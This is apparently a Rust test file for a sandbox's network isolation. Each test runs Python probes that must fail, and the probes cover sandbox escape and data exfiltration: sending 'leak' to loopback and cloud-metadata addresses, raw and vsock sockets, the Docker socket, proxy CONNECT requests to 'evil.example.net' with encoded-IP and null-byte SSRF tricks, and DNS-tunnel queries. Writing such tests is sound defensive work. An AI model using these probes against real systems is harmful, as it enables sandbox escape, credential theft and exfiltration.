//! Every other way out, tried from inside a sandbox that has a network: none of them leads anywhere.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::{Servers, Site, at_every_wall};
use ringwall_testkit::attacks;

fn api(servers: &Servers) -> Value {
    json!({"allow": [{"host": "api.example.com", "port": servers.secure}]})
}

/// Runs a Python program inside; each of its lines `NAME OUTCOME` is checked by `fine`.
#[track_caller]
fn probe(site: &Site, rules: &Value, program: &str, fine: impl Fn(&str) -> bool) {
    let prelude = "import errno, socket, struct, sys\n\
        def attempt(name, do):\n\
        \x20   try: print(name, 'REACHED', do())\n\
        \x20   except Exception as e: print(name, type(e).__name__, str(e).replace('\\n', ' '))\n";
    let done = site.python(rules, &format!("{prelude}{program}")).exits(0);
    assert!(!done.stdout.is_empty(), "{done:?}");
    for line in done.stdout.lines() {
        assert!(fine(line), "{line}\n{done:?}");
    }
}

fn is_refused(line: &str) -> bool {
    !line.contains("REACHED")
}

#[test]
fn addresses_cannot_be_reached_without_the_gateway() {
    at_every_wall(|site, servers| {
        let listener = TcpListener::bind("0.0.0.0:0").unwrap();
        let datagrams = UdpSocket::bind("0.0.0.0:0").unwrap();
        datagrams.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
        let (tcp, udp) =
            (listener.local_addr().unwrap().port(), datagrams.local_addr().unwrap().port());
        let program = format!(
            "def tcp(family, address):\n\
             \x20   s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)\n\
             \x20   s.connect(address); s.sendall(b'leak'); return 'sent'\n\
             for ip in ('127.0.0.1', '10.0.0.1', '169.254.169.254', '1.1.1.1', '168.63.129.16'):\n\
             \x20   attempt(ip, lambda: tcp(socket.AF_INET, (ip, {tcp})))\n\
             \x20   attempt(ip + ':server', lambda: tcp(socket.AF_INET, (ip, {})))\n\
             for ip in ('::1', 'fd00:ec2::254', '2001:db8::1', '::ffff:127.0.0.1'):\n\
             \x20   attempt(ip, lambda: tcp(socket.AF_INET6, (ip, {tcp})))\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             for ip in ('127.0.0.1', '1.1.1.1', '224.0.0.251', '255.255.255.255'):\n\
             \x20   for port in ({udp}, 443, 5353):\n\
             \x20       try: s.sendto(b'leak', (ip, port))\n\
             \x20       except OSError: pass\n",
            servers.secure
        );
        probe(site, &api(servers), &program, is_refused);
        listener.set_nonblocking(true).unwrap();
        assert!(listener.accept().is_err(), "nobody connected");
        assert!(datagrams.recv(&mut [0; 16]).is_err(), "no datagram came");
    });
}

#[test]
fn other_kinds_of_sockets_lead_nowhere() {
    at_every_wall(|site, servers| {
        let program = "\
for name, kind in (('raw', socket.SOCK_RAW),):
    for protocol in (1, 6, 17, 255):
        attempt(f'{name}{protocol}', lambda: socket.socket(socket.AF_INET, kind, protocol))
attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, socket.htons(3)))
attempt('sctp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(('1.1.1.1', 443)))
attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 1024)))
for path in ('/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket'):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
";
        probe(site, &api(servers), program, is_refused);
    });
}

#[test]
fn the_proxy_is_asked_in_vain_for_what_no_rule_allows() {
    at_every_wall(|site, servers| {
        let port = servers.secure;
        let program = format!(
            "def ask(words):\n\
             \x20   s = socket.create_connection(('127.0.0.1', 3128), 10); s.sendall(words)\n\
             \x20   s.settimeout(10); a = s.recv(4096).split(b'\\r\\n')[0].decode(); s.close()\n\
             \x20   if ' 200' in a: return a\n\
             \x20   raise PermissionError(a)\n\
             hosts = ['evil.example.net', '127.0.0.1', '[::1]', '2130706433', '0x7f000001', '0177.0.0.1',\n\
             \x20 '[::ffff:127.0.0.1]', '[64:ff9b::7f00:1]', '169.254.169.254', 'metadata.google.internal',\n\
             \x20 'localhost', 'host.docker.internal', 'api.example.com@evil.example.net',\n\
             \x20 'api.example.com\\x00.evil.example.net', 'a.api.example.com', 'xn--api.example.com',\n\
             \x20 'private.example.com', 'metadata.example.com', 'mapped.example.com', 'loopback.example.com',\n\
             \x20 'api.example.com.evil.example.net', 'x' * 300 + '.example.com']\n\
             for h in hosts:\n\
             \x20   attempt(repr(h), lambda: ask(f'CONNECT {{h}}:{port} HTTP/1.1\\r\\nHost: {{h}}:{port}\\r\\n\\r\\n'.encode('latin1')))\n\
             \x20   attempt('get ' + repr(h), lambda: ask(f'GET http://{{h}}:{}/hello HTTP/1.1\\r\\nHost: {{h}}\\r\\n\\r\\n'.encode('latin1')))\n\
             for p in (22, 25, 80, 2375, 6443, {port} + 1):\n\
             \x20   attempt(f'port {{p}}', lambda: ask(f'CONNECT api.example.com:{{p}} HTTP/1.1\\r\\n\\r\\n'.encode()))\n",
            servers.plain
        );
        let rules = json!({"allow": [
            {"host": "api.example.com", "port": port},
            {"host": "private.example.com", "port": port},
            {"host": "metadata.example.com", "port": port},
            {"host": "mapped.example.com", "port": port},
            {"host": "loopback.example.com", "port": port},
        ]});
        // A tunnel may be promised before its address is known; nothing comes through it.
        let before = servers.seen();
        probe(site, &rules, &program, |line| is_refused(line) || line.contains("example.com"));
        assert_eq!(servers.seen(), before, "no request came");
        let log = site.net_log();
        assert!(
            log.iter().all(|record| record["event"]["verdict"] != "allowed"
                || record["event"]["address"].is_null()),
            "{log:?}"
        );
    });
}

/// The list that guests are tried with, too.
#[test]
fn every_attack_of_the_list_is_refused() {
    at_every_wall(|site, servers| {
        let attempts = attacks::attempts(servers.plain);
        let rules = serde_json::from_str(&attacks::rules(servers.plain)).unwrap();
        let before = servers.seen().lines().count();
        let done = site.run(&rules, &attacks::script(&attempts, 1)).exits(0);
        attacks::judge(&format!("{:?}", site.wall), &attempts, &done.stdout);
        assert_eq!(servers.seen().lines().count(), before + 1, "{}", servers.seen());
    });
}

#[test]
fn dns_is_no_way_out() {
    at_every_wall(|site, servers| {
        let program = "\
def ask(name, kind, port=53):
    labels = b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.') if l)
    words = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(words, ('127.0.0.1', port)); answer = s.recv(4096)
    code, count = answer[3] & 15, struct.unpack('>H', answer[6:8])[0]
    if count: return count
    raise PermissionError(code)
for name in ('secret-data.evil.example.net', 'c2VjcmV0.api.example.com', 'example.com', 'localhost',
             'metadata.google.internal', '1.0.0.127.in-addr.arpa', 'a' * 63 + '.evil.example.net'):
    for kind in (1, 28, 16, 10, 15, 255, 252):
        attempt(f'{name} {kind}', lambda: ask(name, kind))
for kind in (16, 10, 15, 255, 33):
    attempt(f'api.example.com {kind}', lambda: ask('api.example.com', kind))
";
        probe(site, &api(servers), program, is_refused);
    });
}

#[test]
fn a_redirect_leads_to_no_other_host() {
    at_every_wall(|site, servers| {
        let away = format!("https://evil.example.net:{}/hello", servers.secure);
        let script = format!("curl -sS -L -H 'X-Away: {away}' {}", servers.url("/away"));
        site.run(&api(servers), &script).fails().holds("403");
    });
}

#[test]
fn without_rules_there_is_no_proxy_and_no_gateway() {
    at_every_wall(|site, servers| {
        let script = format!(
            "env | grep -i proxy; curl -sS --proxy http://127.0.0.1:3128 {} 2>&1; ls /dev/.ringwall/net",
            servers.url("/hello")
        );
        for flags in [&[][..], &["--net", "none"]] {
            let done = site.run_with(flags, &script).fails();
            assert!(!done.stdout.contains("hello\n"), "{done:?}");
            assert!(!done.stdout.to_lowercase().contains("http_proxy"), "{done:?}");
        }
    });
}

#[test]
fn a_sandbox_cannot_use_the_sockets_of_another() {
    let servers = Servers::start();
    let site = Site::new(crate::support::Wall::Process, &servers);
    let id = site.create(&api(&servers));
    // The other's loopback is another one, whoever listens there.
    let script = format!("curl -sS --proxy http://127.0.0.1:3128 {}", servers.url("/hello"));
    site.run_with(&[], &script).fails();
    let listener = TcpListener::bind("127.0.0.1:3128");
    if let Ok(listener) = listener {
        listener.set_nonblocking(true).unwrap();
        let inside = site.ringwall(["exec", &id, "sh", "-c", &script]);
        inside.exits(0).prints("hello\n");
        let stray = listener.accept().map(|(mut stream, _)| {
            let mut heard = String::new();
            let _ = stream.read_to_string(&mut heard);
            heard
        });
        assert!(stray.is_err(), "the host's own loopback was asked: {stray:?}");
    }
}
